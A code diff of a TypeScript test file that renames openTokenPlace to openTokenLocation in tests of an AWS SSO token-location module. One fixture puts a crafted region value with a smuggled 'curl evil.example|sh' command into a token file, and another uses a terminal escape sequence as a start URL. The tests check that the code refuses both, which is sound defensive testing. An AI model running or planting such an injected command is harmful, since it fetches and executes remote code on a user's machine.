@@ -1,7 +1,7 @@
 import { describe, expect, test } from "bun:test";
 import { importToken, ownTokenPath, portals } from "../../src/sso/own-token-cache.ts";
 import type { PortalChoice } from "../../src/sso/portal-choice.ts";
-import { openTokenPlace } from "../../src/sso/token-location.ts";
+import { openTokenLocation } from "../../src/sso/token-location.ts";
 import { failureOf } from "../support/failure.ts";
 import { fakeSystem } from "../support/fake-system.ts";
 import { memoryFiles } from "../support/memory-files.ts";
@@ -28,11 +28,11 @@ interface Setup {
 function open(choice: PortalChoice, setup: Setup = {}) {
   const { files = memoryFiles(), home = "/home/me", stdin = "", nrt = false } = setup;
   const system = fakeSystem({ instead: { ...files, readStdin: async () => stdin } });
-  return { system, place: openTokenPlace(choice, { system, home, nrt }) };
+  return { system, place: openTokenLocation(choice, { system, home, nrt }) };
 }
 
 describe("a sign-in shared with the AWS CLI", () => {
-  test("openTokenPlace() asks for the scopes of the session, and names the command that signs in", async () => {
+  test("openTokenLocation() asks for the scopes of the session, and names the command that signs in", async () => {
     const place = await open(cli).place;
     expect(place).toMatchObject({
       startUrl,
@@ -45,14 +45,14 @@ describe("a sign-in shared with the AWS CLI", () => {
     expect(place.store.sharedName).toStartWith("/home/me/.aws/sso/cache/");
   });
 
-  test("openTokenPlace() asks for no scopes in a legacy sign-in, as the AWS CLI", async () => {
+  test("openTokenLocation() asks for no scopes in a legacy sign-in, as the AWS CLI", async () => {
     expect(await open({ ...cli, sessionName: undefined, scopes: undefined }).place).toMatchObject({
       scopes: [],
       legacy: true,
     });
   });
 
-  test("openTokenPlace() keeps a client without scopes out of the shared file", async () => {
+  test("openTokenLocation() keeps a client without scopes out of the shared file", async () => {
     const files = memoryFiles();
     const { scopes, store } = await open(cli, { files, nrt: true }).place;
     await store.writeRegistration("device", { clientId: "id", clientSecret: "s", expiresAt: "x" });
@@ -63,7 +63,7 @@ describe("a sign-in shared with the AWS CLI", () => {
 });
 
 describe("the own cache", () => {
-  test("openTokenPlace() takes the portal used last, and the region of its token", async () => {
+  test("openTokenLocation() takes the portal used last, and the region of its token", async () => {
     const files = memoryFiles();
     await importToken(files, folder, "https://other.awsapps.com/start", token, {});
     await importToken(files, folder, startUrl, token, {});
@@ -75,13 +75,13 @@ describe("the own cache", () => {
     expect(files.log).toContain(`check ${folder}`);
   });
 
-  test("openTokenPlace() remembers the portal of a new sign-in", async () => {
+  test("openTokenLocation() remembers the portal of a new sign-in", async () => {
     const files = memoryFiles();
     await (await open({ kind: "own", startUrl, region: undefined }, { files }).place).signedIn();
     expect(await portals(files, folder)).toEqual([startUrl]);
   });
 
-  test("openTokenPlace() needs a person when no portal was ever used", async () => {
+  test("openTokenLocation() needs a person when no portal was ever used", async () => {
     const failure = await failureOf(
       () => open({ kind: "own", startUrl: undefined, region: undefined }).place,
     );
@@ -89,7 +89,7 @@ describe("the own cache", () => {
     expect(failure.hints.join()).toContain("importcache");
   });
 
-  test("openTokenPlace() refuses another region than the stored one", async () => {
+  test("openTokenLocation() refuses another region than the stored one", async () => {
     const files = memoryFiles();
     await importToken(files, folder, startUrl, token, {});
     const { place } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
@@ -100,7 +100,7 @@ describe("the own cache", () => {
 });
 
 describe("a token that was given", () => {
-  test("openTokenPlace() reads it from stdin when told to, without its line end", async () => {
+  test("openTokenLocation() reads it from stdin when told to, without its line end", async () => {
     const choice = { kind: "token", token: "-", startUrl: undefined, region: "eu-west-1" } as const;
     const place = await open(choice, { stdin: "t\n" }).place;
     expect((await place.store.readToken())?.accessToken).toBe("t");
@@ -110,7 +110,7 @@ describe("a token that was given", () => {
     );
   });
 
-  test("openTokenPlace() believes the file about its portal, and warns when its refresh token is spent", async () => {
+  test("openTokenLocation() believes the file about its portal, and warns when its refresh token is spent", async () => {
     const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, refreshToken: "r1" }) });
     const choice = { kind: "file", path: "file:///t.json", startUrl: undefined, region: undefined } as const;
     const { system, place } = open(choice, { files });
@@ -126,7 +126,7 @@ describe("a token that was given", () => {
     expect(files.log).toEqual([]);
   });
 
-  test("openTokenPlace() does not show a start URL of a file that is none", async () => {
+  test("openTokenLocation() does not show a start URL of a file that is none", async () => {
     const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, startUrl: "\u001b[2J" }) });
     const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
     expect((await open(choice, { files }).place).name).toBe("/t.json");
@@ -137,14 +137,14 @@ describe("a region that is none", () => {
   const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
   const message = (path: string) => `cannot use the region of the ${path}: `;
 
-  test("openTokenPlace() refuses it in a token file, which it names", async () => {
+  test("openTokenLocation() refuses it in a token file, which it names", async () => {
     const files = memoryFiles({ "/t.json": JSON.stringify(crafted) });
     const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
     const failure = await failureOf(() => open(choice, { files }).place);
     expect(failure.message).toStartWith(message("token in /t.json"));
   });
 
-  test("openTokenPlace() refuses it in the own cache, and names the file", async () => {
+  test("openTokenLocation() refuses it in the own cache, and names the file", async () => {
     const files = memoryFiles();
     await importToken(files, folder, startUrl, crafted, {});
     const failure = await failureOf(
@@ -154,21 +154,21 @@ describe("a region that is none", () => {
   });
 });
 
-test("openTokenPlace() keeps nothing of a sign-in that is not to be kept", async () => {
+test("openTokenLocation() keeps nothing of a sign-in that is not to be kept", async () => {
   const place = await open({ kind: "unkept", startUrl, region: "eu-west-1" }).place;
   expect(await place.store.readToken()).toBeUndefined();
   expect(place.store.sharedName).toBeUndefined();
   expect(place.signInHint).toContain("--use-cache");
 });
 
-test("openTokenPlace() says so where there is no home directory", async () => {
+test("openTokenLocation() says so where there is no home directory", async () => {
   const system = fakeSystem({ instead: memoryFiles() });
   const own = { kind: "own", startUrl, region: undefined } as const;
   for (const [choice, hint] of [
     [cli, "set HOME"],
     [own, "set HOME, or AWS_LOGIN_HOME"],
   ] as const) {
-    const failure = await failureOf(() => openTokenPlace(choice, { system, home: undefined, nrt: false }));
+    const failure = await failureOf(() => openTokenLocation(choice, { system, home: undefined, nrt: false }));
     expect(failure.hints).toEqual([hint]);
   }
 });
